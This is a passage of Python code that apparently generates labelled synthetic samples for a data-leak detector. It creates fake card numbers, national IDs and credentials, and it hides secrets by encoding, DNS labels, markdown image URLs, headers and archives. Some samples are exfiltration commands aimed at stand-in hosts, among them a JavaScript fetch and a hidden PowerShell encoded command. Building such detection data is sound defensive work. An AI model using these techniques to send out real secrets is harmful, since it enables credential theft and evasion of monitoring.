    return T("\n".join("%s: %s" % kv for kv in fields) + "\n", "text/plain; charset=utf-8")


def pname():
    f, l = person()
    return "%s %s" % (f.capitalize(), l.capitalize())


@P("payment-card-number", "bbbbuun")
def _pii_card(where):
    n = card()
    if where == "hostname":
        return T("%s.%s.%s" % (n, rs(4, LN), pick(["cc.example.net", "img.example.org"])))
    if where == "url":
        return T(url_with([("cc", card_fmt(n).replace(" ", "")), ("exp", expiry()), ("cvv", rs(3, DG))], path="/checkout/complete"))
    c = rint(0, 5)
    if c == 0:
        rows = ["order_id,name,card_number,exp,amount"]
        for _ in range(rint(2, 5)):
            rows.append("%d,%s,%s,%s,%d.%02d" % (rint(10000, 99999), pname(), card_fmt(card()), expiry(), rint(5, 900), rint(0, 99)))
        return T("\n".join(rows) + "\n", "text/csv")
    if c == 1:
        return T(jdump({"payment_method": {"type": "card", "card": {"number": card_fmt(n), "exp_month": rint(1, 12), "exp_year": rint(2026, 2031), "cvc": rs(3, DG)}},
                        "amount": rint(100, 99999), "currency": pick(["usd", "eur", "gbp"])}), "application/json")
    if c == 2:
        return T(qs([("cardholder", pname()), ("cardnumber", card_fmt(n)), ("expiry", expiry()), ("cvc", rs(3, DG)), ("zip", rs(5, DG))]), "application/x-www-form-urlencoded")
    if c == 3:
        txt = pick(["Hi, please charge my card {c} exp {e}, the code on the back is {v}. Thanks!",
                    "Meine Kreditkartennummer ist {c}, gültig bis {e}.", "Ma carte : {c} (exp {e}) cryptogramme {v}",
                    "我的信用卡号是 {c}，有效期 {e}。", "Номер карты {c}, срок {e}, CVV {v}"])
        return T(txt.replace("{c}", card_fmt(n)).replace("{e}", expiry()).replace("{v}", rs(3, DG)), "text/plain; charset=utf-8")
    if c == 4:
        return T(c_llm([("CUSTOMER_CARD", card_fmt(n)), ("CARD_EXP", expiry())])[0], "application/json")
    return T("<PaymentRequest><Card><Number>%s</Number><Expiry>%s</Expiry><Holder>%s</Holder></Card></PaymentRequest>" % (n, expiry(), pname()), "application/xml")


@P("payment-card-track-data", "b")
def _pii_track(where):
    n = card(pick(["visa", "mc"]))
    f, l = person()
    yymm = "%02d%02d" % (rint(26, 30), rint(1, 12))
    t1 = "%%B%s^%s/%s^%s%s%s?" % (n, l.upper(), f.upper(), yymm, pick(["101", "201"]), rs(rint(10, 18), DG))
    t2 = ";%s=%s%s%s?" % (n, yymm, pick(["101", "201"]), rs(rint(10, 15), DG))
    if chance(0.5):
        return T(jdump({"terminal": "POS-%s" % rs(4, UN), "swipe": {"track1": t1, "track2": t2}}), "application/json")
    return T(t1 + "\n" + t2 + "\n", "text/plain")


@P("iban", "bbbu")
def _pii_iban(where):
    ib = iban()
    fields = [("name", pname()), ("iban", iban_fmt(ib)), ("bic", rs(4, UP) + ib[:2] + rs(2, UN)), ("amount", "%d.%02d" % (rint(10, 9000), rint(0, 99)))]
    if where == "body" and chance(0.3):
        return T(pick(["Bitte überweisen Sie den Betrag auf mein Konto: IBAN {i}.", "Voici mon RIB : {i}", "Mi IBAN es {i}, gracias.",
                       "Please wire the refund to {i}"]).replace("{i}", iban_fmt(ib)), "text/plain; charset=utf-8")
    return pii_wrap(fields, where, "iban")


def reg_pii(cls, gen, fieldname, wheres, extra=None):
    def fn(where):
        fields = [("full_name", pname()), ("email", email()), (fieldname, gen()), ("dob", "%04d-%02d-%02d" % (rint(1950, 2004), rint(1, 12), rint(1, 28)))]
        if extra:
            fields.append(extra())
        R.shuffle(fields)
        return pii_wrap(fields, where, cls)
    for w in wheres:
        POS.append((cls, WMAP[w], fn))


reg_pii("us-ssn", ssn_us, "ssn", "bu")
POS.append(("us-ssn", "hostname", lambda where: T("%s.%s.%s" % (ssn_us(), rs(5, LN), pick(["id.example.com", "q.example.net"])))))
reg_pii("uk-national-insurance-number", nino_uk, "ni_number", "bb")
reg_pii("canada-sin", sin_ca, "sin", "bb")
reg_pii("france-nir", nir_fr, "numero_securite_sociale", "bb")
reg_pii("germany-steuer-id", steuerid_de, "steuer_id", "bb")
reg_pii("spain-dni-nie", lambda: pick([dni_es, nie_es])(), "dni", "b")
reg_pii("italy-codice-fiscale", cf_it, "codice_fiscale", "b")
reg_pii("netherlands-bsn", bsn_nl, "bsn", "b")
reg_pii("poland-pesel", pesel_pl, "pesel", "b")
reg_pii("sweden-personnummer", pnr_se, "personnummer", "bu")
reg_pii("finland-hetu", hetu_fi, "henkilotunnus", "b")
reg_pii("india-aadhaar", aadhaar_in, "aadhaar", "bb")
reg_pii("brazil-cpf", cpf_br, "cpf", "bb")
reg_pii("china-resident-id", cnid, "id_card", "bb")
reg_pii("south-korea-rrn", rrn_kr, "resident_registration_number", "b")
reg_pii("japan-my-number", mynumber_jp, "my_number", "b")
reg_pii("australia-tfn", tfn_au, "tax_file_number", "b")
reg_pii("singapore-nric", nric_sg, "nric", "b")
reg_pii("south-africa-id", said_za, "id_number", "b")
reg_pii("uk-nhs-number", nhs_uk, "nhs_number", "b")
reg_pii("us-bank-account", aba_routing, "routing_number", "b", extra=lambda: ("account_number", rs(rint(9, 12), DG)))


@P("passport-mrz", "b")
def _pii_mrz(where):
    l1, l2 = mrz_td3()
    if chance(0.5):
        return T(jdump({"document_type": "passport", "mrz": [l1, l2], "ocr_confidence": round(R.uniform(0.9, 0.99), 3)}), "application/json")
    return T("OCR result:\n%s\n%s\n" % (l1, l2), "text/plain")


# ---------------------------------------------------------------- exfiltration techniques
def s_short():
    """A compact, recognisable secret (<= ~70 chars)."""
    return pick([lambda: ghtok("ghp_"), lambda: "glpat-" + rs(20, AN + "-_"), lambda: akia() + ":" + awssec(),
                 lambda: "sk_live_51" + rs(rint(30, 50), AN), lambda: npmtok(), lambda: "hf_" + rs(34, UP + LO),
                 lambda: "xoxb-%s-%s-%s" % (rs(11, DG), rs(13, DG), rs(24, AN)), lambda: "gsk_" + rs(52, AN),
                 lambda: "dop_v1_" + rhex(56), lambda: "AWS_SECRET_ACCESS_KEY=" + awssec(), lambda: "lin_api_" + rs(40, AN),
                 lambda: "dckr_pat_" + rs(27, AN + "-_"), lambda: card(), lambda: "shpat_" + rhex(32)])()


def s_any():
    return pick([s_short, s_short, lambda: "sk-ant-api03-" + rs(93, AN + "-_") + "AA",
                 lambda: "AWS_ACCESS_KEY_ID=%s\nAWS_SECRET_ACCESS_KEY=%s" % (akia(), awssec()),
                 lambda: "DATABASE_URL=" + dsn(), lambda: bip39_mnemonic(12), lambda: wif(),
                 lambda: "card=%s exp=%s cvv=%s" % (card(), expiry(), rs(3, DG)),
                 lambda: "STRIPE_SECRET_KEY=sk_live_51" + rs(90, AN), lambda: slack_hook(),
                 lambda: "password=" + rpassword(), lambda: "-----\n" + kvlines([("OPENAI_API_KEY", "sk-proj-" + rs(64, AN + "-_") + "T3BlbkFJ" + rs(64, AN + "-_"))])])()


def envdump():
    pairs = [("AWS_ACCESS_KEY_ID", akia()), ("AWS_SECRET_ACCESS_KEY", awssec()), ("GITHUB_TOKEN", ghtok("ghp_")),
             ("STRIPE_SECRET_KEY", "sk_live_51" + rs(90, AN)), ("DATABASE_URL", dsn()), ("OPENAI_API_KEY", "sk-proj-" + rs(64, AN + "-_") + "T3BlbkFJ" + rs(64, AN + "-_")),
             ("SLACK_BOT_TOKEN", "xoxb-%s-%s-%s" % (rs(11, DG), rs(13, DG), rs(24, AN)))]
    R.shuffle(pairs)
    return kvlines(mix_env(pairs[:rint(2, 4)])) + "\n"


def qparam():
    return pick(["d", "data", "q", "p", "v", "x", "payload", "c", "id", "ref", "s", "t"])


@P("url-encoded-secret", "bu")
def _x_urlenc(where):
    s = s_any() if where == "body" else s_short()
    if where == "url":
        return T("https://%s/%s?%s=%s" % (xhost(), pick(["px.gif", "collect", "ping"]), qparam(), pq_all(s)))
    if chance(0.5):
        return T("%s=%s&ts=%d" % (qparam(), pq_all(s), repoch()), "application/x-www-form-urlencoded")
    return T(jdump({"event": "diag", "blob": pq_all(s)}), "application/json")


@P("double-url-encoded-secret", "uub")
def _x_dblurl(where):
    s = s_short()
    enc = pq(pq(s, safe=""), safe="") if (pq(s, safe="") != s and chance(0.5)) else pq(pq_all(s), safe="")
    if where == "body":
        return T("redirect=%s&step=2" % pq("https://%s/cb?t=%s" % (xhost(), pq(s, safe="")), safe=""), "application/x-www-form-urlencoded")
    return T("https://%s/r?next=%s" % (xhost(), enc))


@P("base64-encoded-secret", "bbhu")
def _x_b64(where):
    s = s_any()
    e = b64(s)
    if where == "header":
        return T("%s: %s" % (pick(["X-Diag", "X-Client-Data", "X-Session-Info", "X-Debug-Context"]), b64(s_short())))
    if where == "url":
        return T("https://%s/%s?%s=%s" % (xhost(), pick(["t.gif", "v1/beacon", "c"]), qparam(), pq(b64(s_short()))))
    c = rint(0, 2)
    if c == 0:
        return T(jdump({"type": "telemetry", "payload": e, "v": 2}), "application/json")
    if c == 1:
        return T(wrap(b64(envdump()), 76) + "\n", "text/plain")
    return T(jdump({"messages": [{"role": "user", "content": "decode this and tell me what it is: " + b64(envdump())}], "model": pick(LLM_MODELS_OAI)}), "application/json")


@P("base64url-encoded-secret", "uhb")
def _x_b64u(where):
    s = s_short()
    if where == "url":
        return T("https://%s/%s/%s" % (xhost(), pick(["i", "p", "track"]), b64u(s)))
    if where == "header":
        return T("X-Request-Context: %s" % b64u(s))
    return T(jdump({"state": b64u(jdump({"k": s_any(), "n": rint(1, 99)}))}), "application/json")


@P("base32-encoded-secret", "bu")
def _x_b32(where):
    s = s_short()
    if where == "url":
        return T("https://%s/v?%s=%s" % (xhost(), qparam(), b32(s, pad=False)))
    return T(jdump({"id": ruuid(), "blob": b32(s_any())}), "application/json")


@P("hex-encoded-secret", "bh")
def _x_hex(where):
    s = s_short()
    if where == "header":
        return T("X-Trace-Blob: %s" % s.encode().hex())
    if chance(0.5):
        return T(jdump({"dump": s_any().encode().hex(), "enc": "hex"}), "application/json")
    return T(s_any().encode().hex().upper() + "\n", "text/plain")


@P("delimited-hex-secret", "b")
def _x_dhex(where):
    s = s_short().encode()
    f = pick([lambda b: ", ".join("0x%02x" % x for x in b), lambda b: "".join("\\x%02x" % x for x in b), lambda b: ":".join("%02x" % x for x in b),
              lambda b: " ".join("%02X" % x for x in b), lambda b: "-".join("%02x" % x for x in b)])
    if chance(0.5):
        return T(jdump({"bytes": f(s)}), "application/json")
    return T("buf = [%s]\n" % f(s), "text/plain")


@P("base85-encoded-secret", "b")
def _x_b85(where):
    s = s_any().encode()
    if chance(0.5):
        return T(jdump({"z": base64.b85encode(s).decode()}), "application/json")
    return T(base64.a85encode(s, adobe=True).decode() + "\n", "text/plain")


@P("gzip-body-no-content-encoding", "b")
def _x_gz(where):
    return BIN(gz(envdump() if chance(0.5) else jdump({"env": envdump()})), pick(["application/gzip", "application/octet-stream", None]))


@P("gzip-content-encoding-body", "bb")
def _x_gzce(where):
    return BIN(gz(jdump({"host": host(), "environment": dict(mix_env([("GITHUB_TOKEN", ghtok("ghp_")), ("STRIPE_SECRET_KEY", "sk_live_51" + rs(90, AN))]))})),
               "application/json", "gzip")


@P("deflate-content-encoding-body", "b")
def _x_deflate(where):
    return BIN(zl(c_llm([("AWS_ACCESS_KEY_ID", akia()), ("AWS_SECRET_ACCESS_KEY", awssec())])[0]), "application/json", "deflate")


@P("zlib-raw-body", "b")
def _x_zlib(where):
    return BIN(zl(envdump()), "application/octet-stream")


@P("zip-archive-upload", "b")
def _x_zip(where):
    files = [("project/README.md", "# %s\n\nInternal tool.\n" % pick(SVC)), ("project/.env", envdump()),
             ("project/src/main.py", "print('hello')\n")]
    if chance(0.5):
        files.append(("project/.aws/credentials", x_awscreds([("a", akia()), ("b", awssec())])[0]))
    return BIN(mkzip(files), "application/zip")


@P("tar-gz-archive-upload", "b")
def _x_tgz(where):
    return BIN(gz(mktar([("backup/home/%s/.netrc" % ruser(), "machine %s login %s password %s\n" % (host(), ruser(), rpassword())),
                         ("backup/home/.npmrc", "//registry.npmjs.org/:_authToken=%s\n" % npmtok()), ("backup/notes.txt", "todo\n")])), "application/gzip")


@P("nested-encoding", "bbu")
def _x_nested(where):
    s = s_any()
    if where == "url":
        return T("https://%s/c?%s=%s" % (xhost(), qparam(), pq(b64(b64(s_short())))))
    c = rint(0, 3)
    if c == 0:
        return T(jdump({"attachment": b64(gz(envdump())), "encoding": "gzip+base64"}), "application/json")
    if c == 1:
        return T(jdump({"h": b64(s).encode().hex()}), "application/json")
    if c == 2:
        return T(qs([("data", b64(zl(jdump({"cfg": envdump()}))))]), "application/x-www-form-urlencoded")
    return BIN(gz(jdump({"inner": b64(jdump({"secret": s_short()}))})), "application/json", "gzip")


@P("reversed-secret", "buu")
def _x_rev(where):
    s = s_short()
    if where == "url":
        return T("https://%s/p?%s=%s" % (xhost(), qparam(), pq(s[::-1])))
    if chance(0.5):
        return T(jdump({"r": s_any()[::-1], "mode": "rev"}), "application/json")
    return T(s_any()[::-1] + "\n", "text/plain")


@P("character-rotation", "bh")
def _x_rot(where):
    s = s_short()
    f = pick([rot13, rot47, lambda x: caesar(x, rint(1, 25))])
    if where == "header":
        return T("X-Note: %s" % f(s).replace("\\", "/"))
    return T(jdump({"cipher": "rot", "text": f(s_any())}), "application/json")


@P("char-code-array", "bb")
def _x_chars(where):
    s = s_short()
    codes = [ord(c) for c in s]
    c = rint(0, 3)
    if c == 0:
        return T("const k = String.fromCharCode(%s);\nfetch('https://%s/?k=' + k);\n" % (", ".join(map(str, codes)), xhost()), "application/javascript")
    if c == 1:
        return T(jdump({"c": codes}), "application/json")
    if c == 2:
        return T("SELECT %s;\n" % "+".join("CHAR(%d)" % x for x in codes), "application/sql")
    return T("k = ''.join(map(chr, %s))\n" % codes, "text/x-python")


@P("utf16le-base64", "b")
def _x_utf16(where):
    s = s_short()
    cmd = "$k='%s'; Invoke-WebRequest -Uri https://%s/u -Method POST -Body $k" % (s, xhost())
    e = b64(cmd.encode("utf-16-le"))
    if chance(0.5):
        return T(jdump({"task": "run", "cmd": "powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand " + e}), "application/json")
    return T(jdump({"data": b64(s_any().encode("utf-16-le")), "charset": "utf-16le"}), "application/json")


def chunks(s, n):
    k = max(1, (len(s) + n - 1) // n)
    return [s[i:i + k] for i in range(0, len(s), k)]


@P("split-across-json-fields", "bb")
def _x_splitjson(where):
    s = s_short()
    parts = chunks(s, rint(3, 5))
    c = rint(0, 2)
    if c == 0:
        return T(jdump({"a%d" % i: p for i, p in enumerate(parts)}), "application/json")
    if c == 1:
        return T(jdump({"parts": parts, "join": ""}), "application/json")
    return T(jdump({"meta": {"prefix": parts[0]}, "items": [{"seq": i, "val": p} for i, p in enumerate(parts[1:])]}), "application/json")


@P("split-across-query-params", "uuu")
def _x_splitq(where):
    s = s_short()
    parts = chunks(s, rint(3, 5))
    return T("https://%s/%s?%s" % (xhost(), pick(["a", "b.gif", "v"]), qs([("p%d" % i, p) for i, p in enumerate(parts)] + [("n", str(len(parts)))])))


@P("split-in-header-value", "h")
def _x_splithdr(where):
    s = s_short()
    return T("X-Parts: %s" % ", ".join(chunks(s, rint(3, 5))))


def dns_labels(enc, maxlen=None):
    maxlen = maxlen or rint(30, 63)
    return [enc[i:i + maxlen] for i in range(0, len(enc), maxlen)]


def dns_name(labels):
    zone = pick(["oast.fun", "dnslog.example.net", "x.example.org", "ns.exfil.example.com", "cdn-metrics.example.net", "t.example.io"])
    pre = [pick(["", str(rint(0, 9)), rs(4, LN)])] if chance(0.5) else []
    name = ".".join([x for x in pre if x] + labels + [zone])
    assert len(name) <= 253, name
    return name


@P("dns-exfil-hex", "nnnnnn")
def _x_dnshex(where):
    s = s_short()
    return T(dns_name(dns_labels(s.encode().hex())))


@P("dns-exfil-base32", "nnnnn")
def _x_dnsb32(where):
    s = s_short()
    return T(dns_name(dns_labels(b32(s, pad=False).lower())))


@P("dns-exfil-base64url", "nnn")
def _x_dnsb64(where):
    for _ in range(200):
        s = s_short()
        e = b64u(s)
        if "_" in e:
            continue
        labels = dns_labels(e)
        if any(l.startswith("-") or l.endswith("-") for l in labels):
            continue
        return T(dns_name(labels))
    raise AssertionError("no base64url candidate")


@P("dns-exfil-split-labels", "nnn")
def _x_dnssplit(where):
    s = pick([lambda: "glpat-" + rs(20, AN), lambda: "dapi" + rhex(32), lambda: "pul-" + rhex(40), lambda: card(), lambda: rhex(32) + "-us" + str(rint(1, 21))])()
    return T(dns_name(chunks(s, rint(3, 5))))


@P("doh-query-exfil", "uu")
def _x_doh(where):
    s = s_short()
    name = dns_name(dns_labels(s.encode().hex()))
    return T(pick(["https://dns.google/resolve?name=%s&type=TXT" % name, "https://cloudflare-dns.com/dns-query?name=%s&type=A" % name]))


@P("url-path-segment-secret", "uuu")
def _x_path(where):
    s = s_short()
    if chance(0.5):
        return T("https://%s/v1/%s/%s/beacon.gif" % (xhost(), pick(["u", "k", "s"]), pq(s)))
    return T("https://%s/%s" % (xhost(), "/".join(pq(p) for p in chunks(s, 3))))


@P("markdown-image-exfil", "bu")
def _x_md(where):
    s = s_short()
    u = "https://%s/%s.png?%s=%s" % (xhost(), pick(["logo", "pixel", "badge", "status"]), qparam(), pq(pick([s, b64(s)])))
    if where == "url":
        return T(u)
    md = "%s\n\n![%s](%s)\n" % (pick(["Here is the summary you asked for.", "Build passed.", "Done! See the chart below."]), pick(["chart", "status", "img"]), u)
    if chance(0.5):
        return T(jdump({"body": md}), "application/json")
    return T(md, "text/markdown")


@P("secret-in-header-name", "hh")
def _x_hdrname(where):
    s = pick([lambda: ghtok("ghp_"), lambda: "glpat-" + rs(20, AN), lambda: akia(), lambda: "sk_live_51" + rs(40, AN), lambda: "xoxb-%s-%s-%s" % (rs(11, DG), rs(13, DG), rs(24, AN))])()
    return T("X-%s: %s" % (s, pick(["1", "true", "ok", "0"])) if chance(0.5) else "%s: %s" % (s, rint(1, 100)))


@P("secret-in-cookie", "hh")
def _x_cookie(where):
    s = s_short()
    return T("Cookie: _ga=GA1.2.%d.%d; theme=dark; %s=%s; lang=en" % (rint(10 ** 8, 10 ** 9), repoch(), pick(["pref", "ux", "sid2", "cfg"]), pq(s)))


@P("secret-in-user-agent", "h")
def _x_ua(where):
    return T("User-Agent: Mozilla/5.0 (X11; Linux x86_64; %s) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36" % s_short())


@P("secret-in-referer", "h")
def _x_ref(where):
    return T("Referer: https://%s/dashboard?token=%s" % (host(), pq(s_short())))


@P("multipart-upload-secret", "bb")
def _x_multipart(where):
    bd = "----WebKitFormBoundary" + rs(16, AN)
    fname = pick([".env", "credentials", "config.json", "id_ed25519.txt", "secrets.yaml"])
    content = envdump() if fname != "credentials" else x_awscreds([("a", akia()), ("b", awssec())])[0]
    body = ("--%s\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\n%s\r\n--%s\r\nContent-Disposition: form-data; name=\"file\"; filename=\"%s\"\r\n"
            "Content-Type: application/octet-stream\r\n\r\n%s\r\n--%s--\r\n" % (bd, pick(["backup", "debug", "share"]), bd, fname, content, bd))
    return T(body, "multipart/form-data; boundary=%s" % bd)


@P("json-in-json-secret", "b")
def _x_jij(where):
    inner = jdump({"config": {"db_password": rpassword(), "api_key": s_short()}})
    if chance(0.5):
        inner = jdump({"payload": inner})
    return T(jdump({"event": "settings.sync", "data": inner, "ts": repoch()}), "application/json")


@P("markup-attribute-secret", "bb")
def _x_markup(where):
    s = s_short()
    c = rint(0, 2)
    if c == 0:
        return T('<!doctype html><html><head><meta name="api-key" content="%s"></head><body><div id="app" data-token="%s"></div></body></html>' % (s, s_short()), "text/html")
    if c == 1:
        return T('<?xml version="1.0"?>\n<config><service name="%s" endpoint="https://%s" secret="%s"/></config>\n' % (pick(SVC), host(), s), "application/xml")
    return T('<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"><metadata>%s</metadata><rect width="1" height="1" data-k="%s"/></svg>' % (s, b64(s)), "image/svg+xml")


@P("llm-prompt-pasted-secrets", "bbb")
def _x_llm(where):
    k = rint(0, 2)
    dump = envdump()
    if k == 0:
        body = {"model": pick(LLM_MODELS_ANT), "max_tokens": 2048, "system": "You are a code reviewer.",
                "messages": [{"role": "user", "content": "Review this deployment script:\n\n```bash\n#!/bin/sh\n" +
                              "\n".join("export %s" % l for l in dump.strip().split("\n")) + "\n./deploy.sh\n```"}]}
    elif k == 1:
        body = {"model": pick(LLM_MODELS_OAI), "messages": [{"role": "user", "content": "Fix the failing test."},
                                                            {"role": "assistant", "content": None, "tool_calls": [{"id": "call_" + rs(24), "type": "function", "function": {"name": "read_file", "arguments": jdump({"path": ".env"})}}]},
                                                            {"role": "tool", "tool_call_id": "call_" + rs(24), "content": dump}]}
    else:
        body = {"model": pick(["llama-3.1-70b", "mixtral-8x7b", "qwen2.5-coder"]), "prompt": "### Context\n%s\n### Question\nWhy does auth fail?" % dump, "stream": True}
    return T(jdump(body), "application/json")


ZW = ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff"]


@P("zero-width-obfuscation", "b")
def _x_zw(where):
    s = s_short()
    z = pick(ZW)
    ob = z.join(s)
    if chance(0.5):
        return T(jdump({"text": "config note: " + ob}), "application/json")
    return T("token " + ob + "\n", "text/plain; charset=utf-8")


@P("fullwidth-unicode-obfuscation", "b")
def _x_fw(where):
    s = s_short()
    fw = "".join(chr(ord(c) + 0xFEE0) if 0x21 <= ord(c) <= 0x7E else c for c in s)
    return T(jdump({"comment": "key: " + fw}), "application/json")


@P("html-entity-encoded-secret", "b")
def _x_ent(where):
    s = s_short()
    e = "".join(pick(["&#%d;" % ord(c), "&#x%x;" % ord(c)]) for c in s)
    return T("<p>%s</p><input type=\"hidden\" name=\"k\" value=\"%s\">" % (pick(["Saved.", "Thanks!"]), e), "text/html")


@P("json-unicode-escaped-secret", "b")
def _x_jsonu(where):
    s = s_short()
    e = "".join("\\u%04x" % ord(c) for c in s)
    return T('{"note":"%s","v":1}' % e, "application/json")


@P("string-concatenation-secret", "b")
def _x_concat(where):
    s = s_short()
    parts = chunks(s, rint(4, 7))
    if chance(0.5):
        return T("const t = %s;\n" % " + ".join("'%s'" % p for p in parts), "application/javascript")
    return T("parts = [%s]\nTOKEN = ''.join(parts)\n" % ", ".join("'%s'" % p for p in parts), "text/x-python")


@P("binary-bitstring-secret", "b")
def _x_bits(where):
    s = s_short()
    return T(jdump({"bits": " ".join(format(b, "08b") for b in s.encode())}), "application/json")


@P("data-uri-secret", "bu")
def _x_datauri(where):
    s = s_any()
    if where == "url":
        return T("https://%s/open?src=%s" % (xhost(), pq("data:text/plain;base64," + b64(s_short()))))
    return T(jdump({"attachments": [{"name": "notes.txt", "url": "data:text/plain;base64," + b64(envdump())}]}), "application/json")


def pb_field(num, data):
    if isinstance(data, str):
        data = data.encode()
    tag = bytes([(num << 3) | 2])
    ln = len(data)
    v = b""
    while True:
        b = ln & 0x7F
        ln >>= 7
        v += bytes([b | (0x80 if ln else 0)])
        if not ln:
            break
    return tag + v + data


@P("protobuf-binary-body", "b")
def _x_pb(where):
    msg = pb_field(1, pick(SVC)) + pb_field(2, host()) + pb_field(3, s_short()) + pb_field(4, ruuid())
    return BIN(msg, pick(["application/x-protobuf", "application/grpc+proto"]))


@P("quoted-printable-email", "b")
def _x_qp(where):
    long_line = "Credentials for the migration: " + "; ".join("%s=%s" % kv for kv in [("aws_key", akia()), ("aws_secret", awssec()), ("gh", ghtok("ghp_"))])
    qp = quopri.encodestring(long_line.encode()).decode()
    msg = ("From: %s\r\nTo: %s\r\nSubject: migration\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n"
           "Content-Transfer-Encoding: quoted-printable\r\n\r\n%s\r\n" % (email(), email(), qp.replace("\n", "\r\n")))
    return T(msg, "message/rfc822")


def png_chunk(typ, data):
    return struct.pack(">I", len(data)) + typ + data + struct.pack(">I", zlib.crc32(typ + data) & 0xFFFFFFFF)


def tiny_png(text_chunks=()):
    w, h = rint(1, 8), rint(1, 8)
    raw = b"".join(b"\x00" + rb(w * 3) for _ in range(h))
    out = b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0))
    for k, v in text_chunks:
        out += png_chunk(b"tEXt", k.encode() + b"\x00" + v.encode())
    out += png_chunk(b"IDAT", zlib.compress(raw, 9)) + png_chunk(b"IEND", b"")
    return out


@P("png-text-chunk-secret", "b")
def _x_png(where):
    return BIN(tiny_png([("Comment", s_any())]), "image/png")


@P("jwt-claim-smuggling", "hu")
def _x_jwtsm(where):
    t = b64u(jdump({"alg": "none", "typ": "JWT"})) + "." + b64u(jdump({"sub": ruuid(), "ctx": s_short(), "iat": repoch()})) + "."
    if where == "url":
        return T("https://%s/auth?id_token=%s" % (xhost(), t))
    return T("Authorization: Bearer %s" % t)


@P("spaced-out-secret", "b")
def _x_spaced(where):
    s = s_short()
    if chance(0.5):
        return T(" ".join(s) + "\n", "text/plain")
    return T("\n".join(s) + "\n", "text/plain")


@P("vendor-prefix-bad-checksum", "bh")
def _x_badck(where):
    body = rs(30)
    bad = b62((zlib.crc32(body.encode()) + rint(1, 1000)) & 0xFFFFFFFF, 6)
    t = pick(["ghp_", "gho_", "npm_"]) + body + bad
    if where == "header":
        return T("Authorization: token %s" % t)
    return T(*pick(BODY_CTX)([("GITHUB_TOKEN" if t.startswith("gh") else "NPM_TOKEN", t)]))


@P("vendor-prefix-low-entropy", "bbhu")
def _x_lowent(where):
    t = pick([lambda: "sk_live_" + "1234567890abcdefghijklmnopqrstuvwxyz"[: rint(24, 36)],
              lambda: "ghp_" + "aaaaBBBBccccDDDDeeeeFFFFggggHHHH1234",
              lambda: "AKIA" + "ABCDEFGHIJKLMNOP",
              lambda: "xoxb-1111111111-2222222222222-" + "abcdefghijklmnopqrstuvwx",
              lambda: "glpat-" + "x" * 20, lambda: "sk-ant-api03-" + "test" * 23 + "AA",
              lambda: "hf_" + "abcdefghijklmnopqrstuvwxyzABCDEFGH",
              lambda: "SG." + "A" * 22 + "." + "B" * 43])()
    if where == "header":
        return T("Authorization: Bearer %s" % t)
    if where == "url":
        return T("https://%s/v1/check?key=%s" % (xhost(), pq(t)))
    return T(*pick(BODY_CTX)([("API_KEY", t)]))


@P("vendor-prefix-length-off", "buu")
def _x_lenoff(where):
    t = pick([lambda: "ghp_" + rs(pick([33, 34, 38, 39]), AN), lambda: "AKIA" + rs(pick([14, 15, 17]), B32A),
              lambda: "glpat-" + rs(pick([17, 18, 23]), AN), lambda: "xoxb-%s-%s-%s" % (rs(11, DG), rs(13, DG), rs(pick([21, 22, 26]), AN)),
              lambda: "sk-ant-api03-" + rs(pick([85, 88, 99]), AN + "-_") + "AA", lambda: "npm_" + rs(pick([33, 34, 38]), AN)])()
    if where == "url":
        return T("https://%s/v1/check?key=%s" % (xhost(), pq(t)))
    return T(*pick(BODY_CTX)([("TOKEN", t)]))

# ---------------------------------------------------------------- negatives: benign look-alikes
def sri(alg=None):
    alg = alg or pick(["sha256", "sha384", "sha512"])
    return "%s-%s" % (alg, b64(rb({"sha256": 32, "sha384": 48, "sha512": 64}[alg])))


def asset_name(ext):
    return pick(["main", "app", "vendor", "runtime", "chunk-%s" % rs(4, LN), "index", "polyfills"]) + pick([".", "-"]) + pick([rhex(8), rhex(16), rhex(20), rs(8, LN + "_")]) + "." + ext


@N("uuid-identifiers", "bbbbbu")
def _n_uuid(where):
    if where == "url":
        return T("https://%s/api/v2/projects/%s/tasks/%s" % (host(), ruuid(), ruuid()))
    c = rint(0, 2)
    if c == 0:
        return T(jdump({"items": [{"id": ruuid(), "name": pick(WORDS), "owner_id": ruuid()} for _ in range(rint(2, 6))]}), "application/json")
    if c == 1:
        return T("\n".join("%s,%s,%s" % (ruuid(), pick(WORDS), rdate()) for _ in range(rint(3, 8))) + "\n", "text/csv")
    return T('<Project Sdk="Microsoft.NET.Sdk">\n  <PropertyGroup>\n    <ProjectGuid>{%s}</ProjectGuid>\n    <UserSecretsId>%s</UserSecretsId>\n  </PropertyGroup>\n</Project>\n' % (ruuid().upper(), ruuid()), "application/xml")


@N("git-commit-shas", "bbbbbu")
def _n_git(where):
    if where == "url":
        return T("https://github.com/%s/%s/compare/%s...%s" % (pick(ORGS), pick(SVC), rhex(40), rhex(40)))
    c = rint(0, 2)
    if c == 0:
        lines = []
        for _ in range(rint(3, 6)):
            lines.append("commit %s\nAuthor: %s <%s>\nDate:   %s\n\n    %s\n" % (rhex(40), pname(), email(), rts(), pick(["fix: handle empty cursor", "chore: bump deps", "feat: add export", "docs: update README"])))
        return T("\n".join(lines), "text/plain")
    if c == 1:
        return T(jdump({"sha": rhex(40), "parents": [{"sha": rhex(40)}], "tree": {"sha": rhex(40)}, "message": "Merge pull request #%d" % rint(10, 9999)}), "application/json")
    return T("\n".join("%s %s" % (rhex(40), "refs/heads/" + pick(["main", "develop", "release/1.%d" % rint(0, 9)])) for _ in range(3)) + "\n", "text/plain")


@N("file-checksums", "bbbbb")
def _n_sums(where):
    c = rint(0, 2)
    if c == 0:
        return T("\n".join("%s  %s-%d.%d.%d-%s.tar.gz" % (rhex(64), pick(SVC), rint(0, 3), rint(0, 20), rint(0, 9), pick(["linux-amd64", "darwin-arm64", "windows-amd64"])) for _ in range(rint(3, 6))) + "\n", "text/plain")
    if c == 1:
        return T(jdump({"files": [{"path": "dist/%s" % asset_name("js"), "md5": rhex(32), "sha1": rhex(40), "size": rint(1000, 900000)} for _ in range(3)]}), "application/json")
    return T("MD5 (%s.iso) = %s\nSHA256 (%s.iso) = %s\n" % (pick(WORDS), rhex(32), pick(WORDS), rhex(64)), "text/plain")


@N("sri-integrity", "bbbbb")
def _n_sri(where):
    if chance(0.5):
